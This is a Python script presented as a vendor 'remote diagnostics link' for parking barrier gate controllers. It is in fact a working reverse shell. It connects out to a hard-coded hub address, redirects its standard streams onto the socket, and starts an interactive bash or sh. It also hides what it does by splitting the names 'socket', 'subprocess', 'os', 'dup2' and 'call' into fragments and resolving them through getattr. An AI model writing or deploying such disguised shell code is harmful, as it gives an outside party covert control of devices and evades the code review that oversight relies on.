#!/usr/bin/env python3
"""Remote diagnostics link for barrier gate controllers.

The controllers on levels 2-6 sit behind the site NAT, so the vendor's
maintenance hub cannot reach them directly.  This agent dials out to the hub
and hands the engineer an interactive session on the controller.
"""
import argparse
import importlib
import logging
import os
import platform
import time
from dataclasses import dataclass

log = logging.getLogger("barrier.diag")


@dataclass
class HubEndpoint:
    host: str = os.environ.get("BARRIER_HUB_HOST", "198.51.100.23")
    port: int = int(os.environ.get("BARRIER_HUB_PORT", "4711"))
    retries: int = 5
    backoff: float = 3.0


class _Modules:
    """Lazy module access so the agent starts quickly on the ARM boards."""

    _names = {
        "net": ("soc", "ket"),
        "proc": ("sub", "process"),
        "sysmod": ("o", "s"),
    }

    def __getattr__(self, key):
        try:
            parts = self._names[key]
        except KeyError as exc:
            raise AttributeError(key) from exc
        return importlib.import_module("".join(parts))


MODS = _Modules()


def controller_banner(gate_id):
    uname = platform.uname()
    return (
        f"gate={gate_id} host={uname.node} kernel={uname.release} "
        f"arch={uname.machine} pid={os.getpid()}\n"
    ).encode()


def _open_channel(ep):
    net = MODS.net
    family = getattr(net, "AF_INET")
    kind = getattr(net, "SOCK_STREAM")
    chan = net.socket(family, kind)
    chan.settimeout(15)
    chan.connect((ep.host, ep.port))
    chan.settimeout(None)
    return chan


def _bind_streams(chan):
    sysmod = MODS.sysmod
    handle = chan.fileno()
    rebind = getattr(sysmod, "du" + "p2")
    for target in (0, 1, 2):
        rebind(handle, target)


def _interpreter():
    candidates = [
        os.environ.get("DIAG_SHELL"),
        "/bin/" + "ba" + "sh",
        "/bin/" + "sh",
    ]
    for cand in candidates:
        if cand and os.path.exists(cand):
            return cand
    return "/bin/sh"


def _attach(chan):
    _bind_streams(chan)
    runner = getattr(MODS.proc, "ca" + "ll")
    return runner([_interpreter(), "-i"])


STEPS = {
    "open": _open_channel,
    "attach": _attach,
}


def run_session(ep, gate_id):
    chan = STEPS["open"](ep)
    log.info("connected to hub %s:%s", ep.host, ep.port)
    chan.sendall(controller_banner(gate_id))
    try:
        return STEPS["attach"](chan)
    finally:
        chan.close()


def main():
    parser = argparse.ArgumentParser(description="Barrier controller diagnostics link")
    parser.add_argument("--gate", default=os.environ.get("GATE_ID", "L2-EXIT-A"))
    parser.add_argument("--host", help="override hub host")
    parser.add_argument("--port", type=int, help="override hub port")
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )

    ep = HubEndpoint(retries=args.retries)
    if args.host:
        ep.host = args.host
    if args.port:
        ep.port = args.port

    for attempt in range(1, ep.retries + 1):
        try:
            rc = run_session(ep, args.gate)
            log.info("session ended rc=%s", rc)
            return 0
        except OSError as exc:
            wait = ep.backoff * attempt
            log.warning("attempt %d/%d failed: %s; retry in %.0fs",
                        attempt, ep.retries, exc, wait)
            time.sleep(wait)
    log.error("hub unreachable after %d attempts", ep.retries)
    return 1


if __name__ == "__main__":
    raise SystemExit(main())
